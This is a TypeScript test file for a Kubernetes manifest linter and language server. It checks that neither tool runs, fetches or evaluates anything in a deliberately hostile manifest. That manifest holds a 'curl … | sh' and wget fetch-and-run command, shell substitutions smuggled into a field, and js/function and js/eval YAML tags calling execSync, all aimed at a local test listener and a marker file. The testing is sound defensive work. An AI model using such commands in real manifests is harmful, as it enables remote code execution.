/**
 * Nothing in a manifest is ever executed, fetched or evaluated, and neither the CLI nor the
 * language server opens a network connection or starts a program.
 *
 * Every feature runs on a hostile manifest (URLs everywhere, a `$schema` modeline, scripts that
 * would fetch and `touch` a marker file, `!!js/function` tags, a kustomization with remote
 * resources) in processes started with:
 * - `--require test/out/security/noNetwork.js`: `net`, `tls`, `http`, `https`, `http2`, `dgram`,
 *   `dns`, `child_process` and `fetch` throw, and every attempt is logged to a file;
 * - `--disallow-code-generation-from-strings`: `eval` and `new Function` throw.
 * The features must still work, the log must stay empty, the marker must not exist, and a TCP
 * server the URLs point at must see no connection (a check that does not rely on the patches).
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import { RawClient } from '../lsp/rawClient';

const ROOT = path.resolve(__dirname, '../../..');
const PRELOAD = path.join(ROOT, 'test', 'out', 'security', 'noNetwork.js');
const NODE_ARGS = ['--disallow-code-generation-from-strings', '--require', PRELOAD];

function hostile(port: number, marker: string): string {
  const url = `http://127.0.0.1:${port}`;
  return [
    `# yaml-language-server: $schema=${url}/schema.json`,
    'apiVersion: apps/v1',
    'kind: Deployment',
    'metadata:',
    '  name: web',
    '  annotations:',
    `    docs: ${url}/docs`,
    'spec:',
    '  selector: { matchLabels: { app: web } }',
    '  template:',
    '    metadata: { labels: { app: web } }',
    '    spec:',
    '      initContainers:',
    '        - name: fetch',
    `          image: 127.0.0.1:${port}/evil:1.0`,
    `          command: ["sh", "-c", "curl -s ${url}/x | sh; wget ${url}/y; touch ${marker}; $(touch ${marker}) \`touch ${marker}\`"]`,
    '          imagePulPolicy: IfNotPresent',
    '          volumeMounts:',
    '            - name: data',
    '              mountPath: /data',
    '      containers:',
    '        - name: app',
    `          image: 127.0.0.1:${port}/app:1.0`,
    '          env:',
    '            - name: HOOK',
    `              value: "$(touch ${marker})"`,
    '          volumeMounts:',
    '            - name: data',
    '              mountPath: /data',
    '      volumes:',
    '        - name: data',
    '          emptyDir: {}',
    '---',
    'apiVersion: v1',
    'kind: ConfigMap',
    'metadata: { name: tags }',
    'data:',
    `  f: !!js/function "function () { require('child_process').execSync('touch ${marker}') }"`,
    `  e: !<tag:yaml.org,2002:js/eval> "require('child_process').execSync('touch ${marker}')"`,
    `  u: !!js/undefined ''`,
    '',
  ].join('\n');
}

function positionOf(text: string, needle: string, nth = 0, delta = 0): { line: number; character: number } {
  let offset = -1;
  for (let i = 0; i <= nth; i++) offset = text.indexOf(needle, offset + 1);
  assert.ok(offset >= 0, `${needle} in the text`);
  const before = text.slice(0, offset + delta);
  const line = before.split('\n').length - 1;
  return { line, character: before.length - before.lastIndexOf('\n') - 1 };
}

describe('offline: nothing is executed, fetched or evaluated', () => {
  let dir: string;
  let marker: string;
  let blockedLog: string;
  let listener: net.Server;
  let port: number;
  let connections = 0;
  let text: string;
  let env: NodeJS.ProcessEnv;

  before(async () => {
    listener = net.createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as net.AddressInfo).port;
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'initlens-offline-'));
    marker = path.join(dir, `pwned-${crypto.randomBytes(4).toString('hex')}`);
    blockedLog = path.join(dir, 'blocked.log');
    env = { ...process.env, INITLENS_TEST_BLOCKED_LOG: blockedLog };
    delete env.NO_COLOR;
    text = hostile(port, marker);
    fs.writeFileSync(path.join(dir, 'web.yaml'), text);
    // A kustomization beside it, with remote resources: read for the patch question, never fetched.
    fs.mkdirSync(path.join(dir, 'overlay'));
    fs.writeFileSync(
      path.join(dir, 'overlay', 'kustomization.yaml'),
      `resources:\n  - ${`http://127.0.0.1:${port}/base`}\n  - github.com/example/repo//base?ref=main\npatches:\n  - path: patch.yaml\n`,
    );
    fs.writeFileSync(
      path.join(dir, 'overlay', 'patch.yaml'),
      'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      initContainers:\n        - name: fetch\n          image: busybox:1.36\n',
    );
  });

  after(() => {
    listener?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  function assertNothingLeft(): void {
    const attempts = fs.existsSync(blockedLog) ? fs.readFileSync(blockedLog, 'utf8') : '';
    assert.equal(attempts, '', 'no network, DNS or process call was attempted');
    assert.equal(fs.existsSync(marker), false, 'nothing in the manifest was run');
    assert.equal(connections, 0, 'no connection reached the URLs of the manifest');
  }

  function cli(args: string[], input?: string) {
    const r = spawnSync(process.execPath, [...NODE_ARGS, path.join(ROOT, 'bin', 'initlens.js'), ...args], {
      cwd: dir,
      env,
      input: input ?? '',
      encoding: 'utf8',
      timeout: 60_000,
    });
    if (r.error) throw r.error;
    return r;
  }

  it('the preload works: a connection, a lookup, a fetch, a child process and eval all throw and are logged', () => {
    const probeLog = path.join(dir, 'probe.log');
    const script = [
      `const tries = [() => require('net').connect(${port}, '127.0.0.1'), () => require('http').get('http://127.0.0.1:${port}/'), () => require('dns').lookup('example.org', () => {}),`,
      `  () => require('child_process').execSync('true'), () => fetch('http://127.0.0.1:${port}/'), () => eval('1 + 1'), () => new Function('return 1')];`,
      `let thrown = 0; for (const t of tries) { try { t(); } catch { thrown++; } } console.log(thrown);`,
    ].join('\n');
    const r = spawnSync(process.execPath, [...NODE_ARGS, '-e', script], { env: { ...process.env, INITLENS_TEST_BLOCKED_LOG: probeLog }, encoding: 'utf8' });
    assert.equal(r.stdout.trim(), '7', r.stderr);
    assert.deepEqual(
      fs
        .readFileSync(probeLog, 'utf8')
        .split('\n\n')
        .filter(Boolean)
        .map((entry) => entry.split('\n')[0]),
      ['net.connect', 'http.get', 'dns.lookup', 'child_process.execSync', 'globalThis.fetch'],
    );
    fs.rmSync(probeLog);
    assert.equal(connections, 0);
  });

  it('the CLI: check (text, JSON, SARIF, stdin), startup (text, JSON) and check --fix work offline', () => {
    const text1 = cli(['check', 'web.yaml', 'overlay']);
    assert.equal(text1.status, 1, text1.stderr);
    assert.match(text1.stdout, /web\.yaml:17:11: error schema: .*imagePulPolicy/);
    const json = cli(['check', '--format', 'json', '.']);
    assert.equal(json.status, 1, json.stderr);
    const report = JSON.parse(json.stdout);
    assert.deepEqual(
      report.files.map((f: { path: string }) => f.path),
      ['overlay/kustomization.yaml', 'overlay/patch.yaml', 'web.yaml'],
    );
    const sarif = cli(['check', '--format', 'sarif', 'web.yaml']);
    assert.equal(JSON.parse(sarif.stdout).runs[0].results.length > 0, true);
    const stdin = cli(['check', '-'], text);
    assert.equal(stdin.status, 1);
    assert.match(stdin.stdout, /-:17:11: error schema/);

    const startup = cli(['startup', 'web.yaml']);
    assert.equal(startup.status, 0, startup.stderr);
    assert.match(startup.stdout, /fetch/);
    const startupJson = cli(['startup', '--format', 'json', 'web.yaml']);
    assert.equal(JSON.parse(startupJson.stdout).plans[0].plan.name, 'web');

    fs.copyFileSync(path.join(dir, 'web.yaml'), path.join(dir, 'fix.yaml'));
    const fix = cli(['check', '--fix', 'fix.yaml']);
    assert.match(fix.stderr, /^fixed fix\.yaml:17:11 schema: Change to `imagePullPolicy`$/m);
    assert.equal(fs.readFileSync(path.join(dir, 'fix.yaml'), 'utf8'), text.replace('imagePulPolicy', 'imagePullPolicy'));
    fs.rmSync(path.join(dir, 'fix.yaml'));
    for (const r of [text1, json, sarif, stdin, startup, startupJson, fix]) assert.doesNotMatch(r.stderr, /initlens-test: |blocked/);
    assertNothingLeft();
  });

  it('the language server: diagnostics, hover, completion, lenses and resolve, code actions, symbols, definition, references, rename, the startup plan', async () => {
    const client = RawClient.start({ nodeArgs: NODE_ARGS, env });
    try {
      await client.initialize({ debounceMs: 0 });
      const doc = pathToFileURL(path.join(dir, 'web.yaml')).href;
      await client.notify('textDocument/didOpen', { textDocument: { uri: doc, languageId: 'yaml', version: 1, text } });
      const published = await client.waitFor(() => client.published(doc).find((p) => p.version === 1), 'diagnostics');
      const typo = published.diagnostics.find((d: any) => d.code === 'schema' && /imagePulPolicy/.test(d.message));
      assert.ok(typo, JSON.stringify(published.diagnostics.map((d: any) => d.message)));
      // The patch under the overlay: analysed as a partial manifest, the remote bases untouched.
      const patch = pathToFileURL(path.join(dir, 'overlay', 'patch.yaml')).href;
      await client.notify('textDocument/didOpen', {
        textDocument: { uri: patch, languageId: 'yaml', version: 1, text: fs.readFileSync(path.join(dir, 'overlay', 'patch.yaml'), 'utf8') },
      });
      await client.waitFor(() => client.published(patch).find((p) => p.version === 1), 'diagnostics of the patch');

      const ok = async (method: string, params: unknown) => {
        const r = await client.request(method, params);
        assert.equal(r.error, undefined, `${method}: ${r.error?.message}`);
        return r.result as any;
      };
      const td = { uri: doc };
      const hover = await ok('textDocument/hover', { textDocument: td, position: positionOf(text, 'command:', 0, 2) });
      assert.match(hover.contents.value, /command/);
      const completion = await ok('textDocument/completion', { textDocument: td, position: positionOf(text, 'imagePulPolicy') });
      assert.ok(completion.items.length > 0, 'completion items');
      const lenses = await ok('textDocument/codeLens', { textDocument: td });
      assert.ok(lenses.length > 0, 'lenses');
      for (const lens of lenses) assert.ok((await ok('codeLens/resolve', lens)).command.title.length > 0);
      const actions = await ok('textDocument/codeAction', { textDocument: td, range: typo.range, context: { diagnostics: [typo] } });
      assert.ok(actions.some((a: any) => a.title === 'Change to `imagePullPolicy`'));
      const symbols = await ok('textDocument/documentSymbol', { textDocument: td });
      assert.ok(symbols.length >= 2);
      const mount = positionOf(text, 'name: data', 0, 7);
      const definition = await ok('textDocument/definition', { textDocument: td, position: mount });
      assert.equal(definition[0].range.start.line, positionOf(text, 'name: data', 2).line);
      const references = await ok('textDocument/references', { textDocument: td, position: mount, context: { includeDeclaration: true } });
      assert.equal(references.length, 3);
      assert.ok(await ok('textDocument/prepareRename', { textDocument: td, position: mount }));
      const rename = await ok('textDocument/rename', { textDocument: td, position: mount, newName: 'cache' });
      assert.equal(rename.changes[doc].length, 3);
      const plan = await ok('initlens/startupPlan', { textDocument: td, position: positionOf(text, 'initContainers') });
      assert.equal(plan.name, 'web');
      const command = await ok('workspace/executeCommand', { command: 'initlens.showStartup', arguments: [doc, positionOf(text, 'initContainers')] });
      assert.equal(command.name, 'web');
      await client.notify('workspace/didChangeConfiguration', { settings: null });
      await client.notify('textDocument/didChange', {
        textDocument: { uri: doc, version: 2 },
        contentChanges: [{ text: text.replace('imagePulPolicy', 'imagePullPolicy') }],
      });
      await client.waitFor(() => client.published(doc).find((p) => p.version === 2), 'diagnostics of version 2');
      assert.equal(await client.shutdown(), 0);
      assert.doesNotMatch(client.stderr, /initlens-test: |blocked/);
    } finally {
      client.kill();
    }
    assertNothingLeft();
  });
});
